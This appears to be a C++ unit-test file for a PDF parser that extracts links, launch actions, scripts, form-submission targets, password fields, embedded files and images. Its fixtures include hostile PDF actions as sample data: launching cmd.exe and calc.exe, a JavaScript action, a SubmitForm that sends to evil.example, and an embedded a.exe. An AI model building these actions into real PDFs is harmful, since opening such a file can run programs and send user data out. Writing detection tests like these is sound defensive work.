#include "parse/file/pdf.hpp"

#include <gmock/gmock.h>

#include "base/limits.hpp"
#include "parse/file/testing/pdf_writer.hpp"

namespace kanshiki::parse {
namespace {

using ::testing::ElementsAre;
using ::testing::IsEmpty;
using testing::pdf_of;
using testing::pdf_stream;
using testing::pdf_with_action;

Pdf read(const std::string& bytes) { return read_pdf(bytes, limits::unpacked_bytes); }

TEST(Pdf, ADocumentThatIsOnlyRead) {
  const Pdf pdf = read(pdf_with_action("/S /GoTo /D [3 0 R /Fit]"));
  EXPECT_THAT(pdf.links, IsEmpty());
  EXPECT_FALSE(pdf.broken || pdf.locked || pdf.asks_password);
}

TEST(Pdf, LinksEachOnce) {
  EXPECT_THAT(read(pdf_with_action("/S /URI /URI (https://example.com/a)",
                                   {"<< /S /URI /URI (https://example.com/a) >>",
                                    "<< /S /URI /URI <68747470733A2F2F6578616D706C652E6F72672F> >>"}))
                  .links,
              ElementsAre("https://example.com/a", "https://example.org/"));
}

TEST(Pdf, APageThatIsOneLink) {
  const auto linked = [](const std::string& rectangle) {
    return read(pdf_with_action("/S /GoTo", {"<< /Subtype /Link /Rect " + rectangle +
                                             " /A << /S /URI /URI (https://example.com/) >> >>"}));
  };
  EXPECT_TRUE(linked("[0 0 595 842]").wide_link);
  EXPECT_TRUE(linked("[595 842 0 0]").wide_link);
  EXPECT_FALSE(linked("[50 50 250 70]").wide_link);
  EXPECT_FALSE(linked("(none)").wide_link);
}

TEST(Pdf, WhatItDoes) {
  EXPECT_THAT(read(pdf_with_action("/S /Launch /F (cmd.exe)")).starts, ElementsAre("cmd.exe"));
  EXPECT_THAT(read(pdf_with_action("/S /Launch /Win << /F (calc.exe) >>")).starts, ElementsAre("calc.exe"));
  EXPECT_THAT(read(pdf_with_action("/S /JavaScript /JS (app.alert\\(1\\))")).scripts,
              ElementsAre("app.alert(1)"));
  EXPECT_THAT(read(pdf_with_action("/S /JavaScript /JS 5 0 R", {pdf_stream("", "a = 1;")})).scripts,
              ElementsAre("a = 1;"));
  EXPECT_THAT(read(pdf_with_action("/S /SubmitForm /F << /FS /URL /F (https://evil.example/post) >>")).sends,
              ElementsAre("https://evil.example/post"));
}

TEST(Pdf, AFieldWhoseLettersAreNotShown) {
  EXPECT_TRUE(read(pdf_with_action("/S /GoTo", {"<< /FT /Tx /Ff 8192 /T (pw) >>"})).asks_password);
  EXPECT_FALSE(read(pdf_with_action("/S /GoTo", {"<< /FT /Tx /Ff 4096 /T (name) >>"})).asks_password);
}

TEST(Pdf, EmbeddedFilesAndPictures) {
  const Pdf pdf = read(pdf_with_action(
      "/S /GoTo", {"<< /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F 6 0 R >> >>",
                   pdf_stream("/Type /EmbeddedFile", "MZ..."),
                   pdf_stream("/Type /XObject /Subtype /Image /Filter /DCTDecode /Width 1 /Height 1",
                              "\xFF\xD8\xFF jpeg")}));
  ASSERT_EQ(pdf.files.size(), 1u);
  EXPECT_EQ(pdf.files[0].name, "a.exe");
  EXPECT_EQ(pdf.files[0].content, "MZ...");
  EXPECT_THAT(pdf.pictures, ElementsAre("\xFF\xD8\xFF jpeg"));
}

TEST(Pdf, PicturesThatAreNoFilesBecomeGraymaps) {
  const auto picture = [](const std::string& entries, const std::string& samples) {
    const Pdf pdf = read(
        pdf_with_action("/S /GoTo", {pdf_stream("/Subtype /Image /Width 2 /Height 2 " + entries, samples)}));
    return pdf.pictures.empty() ? std::string("none") : pdf.pictures[0];
  };
  const std::string head = "P5\n2 2\n255\n", expected = head + "\xFF" + std::string(2, '\0') + "\xFF";
  const std::string bits = "\x80\x40", white(3, '\xFF'), black(3, '\0');
  EXPECT_EQ(picture("/BitsPerComponent 1 /ColorSpace /DeviceGray", bits), expected);
  EXPECT_EQ(picture("/BitsPerComponent 8 /ColorSpace /DeviceRGB", white + black + black + white), expected);
  EXPECT_EQ(picture("/BitsPerComponent 1 /ColorSpace [/Indexed /DeviceGray 1 <FF00>]", "\x40\x80"), expected);
  EXPECT_EQ(picture("/ImageMask true /Decode [1 0]", "\x40\x80"), expected);
  EXPECT_EQ(picture("/BitsPerComponent 8 /ColorSpace /DeviceGray", "\xFF"), "none");
  EXPECT_EQ(picture("/BitsPerComponent 16 /ColorSpace /DeviceGray", std::string(8, 'x')), "none");
}

TEST(Pdf, FilesStopAtTheLimit) {
  const std::string bytes =
      pdf_with_action("/S /GoTo", {"<< /Type /Filespec /F (a) /EF << /F 6 0 R >> >>",
                                   pdf_stream("/Type /EmbeddedFile", std::string(5'000, 'x'))});
  EXPECT_TRUE(read_pdf(bytes, 1'000).too_large);
}

TEST(Pdf, ObjectsStopAtTheLimit) {
  std::vector<std::string> many(limits::document_objects + 10, "1");
  EXPECT_TRUE(read(pdf_with_action("/S /GoTo", many)).too_many);
}

TEST(Pdf, BrokenOnesFailQuietly) {
  const std::string whole = pdf_with_action("/S /URI /URI (https://example.com/)");
  for (std::size_t size = 0; size < whole.size(); size += 11) read(whole.substr(0, size));
  EXPECT_TRUE(read("%PDF-1.7 and nothing more").broken);
}

}  // namespace
}  // namespace kanshiki::parse
